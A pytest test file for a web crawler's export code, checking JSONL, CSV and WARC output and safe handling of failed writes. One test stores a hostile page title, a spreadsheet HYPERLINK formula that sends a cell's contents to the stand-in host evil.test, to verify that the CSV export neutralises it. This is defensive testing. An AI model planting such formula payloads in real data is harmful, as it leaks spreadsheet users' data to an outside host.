"""Export: JSON lines and CSV rows, and WARC read back with warcio."""

from __future__ import annotations

import csv
import json

import pytest
from warcio.archiveiterator import ArchiveIterator

import crawler.export as crawler_export
from crawler.export import ExportError, export
from crawler.repository import Repository, StoredPage
from crawler.search import ranked_search, text_document


@pytest.fixture
def repo(tmp_path):
    with Repository(tmp_path / "r.db") as repo:
        with repo.transaction():
            for url, topic, text in (
                ("http://a/1", "Science/Math", "Stochastic processes, naïve Bayes, and vacuum."),
                ("http://a/2", "Movies", "A film review that also says vacuum."),
            ):
                repo.insert_page(StoredPage(text_document(url, url, text, topic=topic, confidence=0.5)))
        yield repo


def test_jsonl_lists_the_documents_of_a_topic_subtree(repo, tmp_path):
    out = tmp_path / "docs.jsonl"
    assert export(repo, out, "jsonl", topic="Science") == 1
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(r["url"], r["topic"], r["origins"]) for r in rows] == [("http://a/1", "Science/Math", ["local"])]


def test_csv_of_search_hits_round_trips(repo, tmp_path):
    out = tmp_path / "hits.csv"
    hits = [h.to_api() for h in ranked_search(repo, "vacuum").hits]
    assert export(repo, out, "csv", rows=hits) == 2
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["url"] for r in rows] == [h["url"] for h in hits]
    assert json.loads(rows[0]["origins"]) == ["local"]
    assert "[[vacuum]]" in rows[0]["preview"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_jsonl_keeps_them(tmp_path):
    title = '=HYPERLINK("http://evil.test/?"&A1, "click")'
    with Repository(tmp_path / "r.db") as repo:
        with repo.transaction():
            page = text_document("http://a/1", title, "A hostile title.", topic="T", confidence=-0.5)
            repo.insert_page(StoredPage(page))
        export(repo, tmp_path / "docs.csv", "csv")
        export(repo, tmp_path / "docs.jsonl", "jsonl")
    with (tmp_path / "docs.csv").open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["title"] == "'" + title
    assert float(row["confidence"]) == -0.5  # a number is no formula
    assert json.loads((tmp_path / "docs.jsonl").read_text(encoding="utf-8"))["title"] == title


@pytest.mark.parametrize("name", ["pages.warc.gz", "pages.warc"])
def test_warc_round_trips_through_warcio(repo, tmp_path, name):
    out = tmp_path / name
    assert export(repo, out, "warc") == 2
    with out.open("rb") as f:
        records = [
            (r.rec_type, r.rec_headers.get_header("WARC-Target-URI"), r.content_stream().read())
            for r in ArchiveIterator(f)
        ]
    assert [t for t, _, _ in records] == ["warcinfo", "resource", "metadata", "resource", "metadata"]
    assert records[1][1] == "http://a/1"
    assert records[1][2].decode("utf-8") == "Stochastic processes, naïve Bayes, and vacuum."
    assert json.loads(records[2][2])["topic"] == "Science/Math"


def test_unknown_format_is_refused(repo, tmp_path):
    with pytest.raises(ExportError, match="jsonl, csv, warc"):
        export(repo, tmp_path / "x", "xml")


@pytest.mark.parametrize("fmt", ["jsonl", "warc"])
def test_an_export_that_fails_midway_leaves_the_previous_file_whole(repo, tmp_path, fmt):
    out = tmp_path / f"docs.{fmt}"
    out.write_bytes(b"the export of yesterday")

    stored = list(crawler_export._documents(repo, None, None))

    def failing_rows(*args, **kwargs):
        yield from stored[:1]  # a document, then the disk fills
        raise OSError(28, "No space left on device")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(crawler_export, "_documents", failing_rows)
        with pytest.raises(ExportError, match="No space left"):
            export(repo, out, fmt)
    assert out.read_bytes() == b"the export of yesterday"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("docs")] == [out.name]
    assert export(repo, out, fmt) == 2 and out.read_bytes() != b"the export of yesterday"


def test_an_export_to_a_device_is_written_there_directly(repo, tmp_path):
    assert export(repo, "/dev/null", "jsonl") == 2
